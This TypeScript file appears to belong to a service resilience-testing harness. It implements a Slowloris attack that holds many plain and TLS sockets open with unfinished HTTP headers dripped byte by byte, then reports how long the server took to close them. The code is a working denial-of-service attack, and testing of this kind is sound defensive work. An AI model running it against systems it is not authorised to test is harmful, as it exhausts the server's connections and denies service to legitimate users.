import type { Socket } from 'node:net';
import { rawSocket, Tally, type Attack, type AttackTarget } from './attack';

/** One more header byte this often: slow enough to hold a socket, fast enough to look alive. */
const DRIP_INTERVAL_MS = 1_000;

/**
 * Slowloris: request heads that never finish, a header line dripped byte by byte, on the
 * plain and the TLS port. The service's header timeout must close them; the report says
 * how long the longest one lived and how many were still open when the attack stopped.
 */
export function slowloris(t: AttackTarget, perPort: number): Attack {
  const tally = new Tally();
  const open: { socket: Socket; port: 'plain' | 'tls'; since: number }[] = [];
  const longestMs = { plain: 0, tls: 0 };
  let timer: NodeJS.Timeout | undefined;

  return {
    name: 'slowloris',
    start() {
      for (const port of ['plain', 'tls'] as const) {
        for (let i = 0; i < perPort; i++) {
          const socket = rawSocket(t, port === 'tls', (code) => tally.add(`error_${code}`));
          const entry = { socket, port, since: performance.now() };
          socket.write(`GET /health HTTP/1.1\r\nHost: ${t.service.host}\r\nX-Slow: `);
          socket.on('close', () => {
            longestMs[port] = Math.max(longestMs[port], performance.now() - entry.since);
            tally.add(`closedByServer_${port}`);
          });
          socket.resume(); // read (and drop) whatever the server answers: 408, 400
          open.push(entry);
        }
      }
      timer = setInterval(() => {
        for (const e of open) if (!e.socket.destroyed) e.socket.write('a');
      }, DRIP_INTERVAL_MS);
    },
    async stop() {
      clearInterval(timer);
      const stillOpen = { plain: 0, tls: 0 };
      for (const e of open) {
        if (e.socket.destroyed) continue;
        stillOpen[e.port]++;
        e.socket.removeAllListeners('close');
        e.socket.destroy();
      }
      return {
        ...tally.toJSON('slowloris_'),
        slowloris_stillOpen_plain: stillOpen.plain,
        slowloris_stillOpen_tls: stillOpen.tls,
        slowloris_longestClosedMs_plain: Math.round(longestMs.plain),
        slowloris_longestClosedMs_tls: Math.round(longestMs.tls),
      };
    },
  };
}
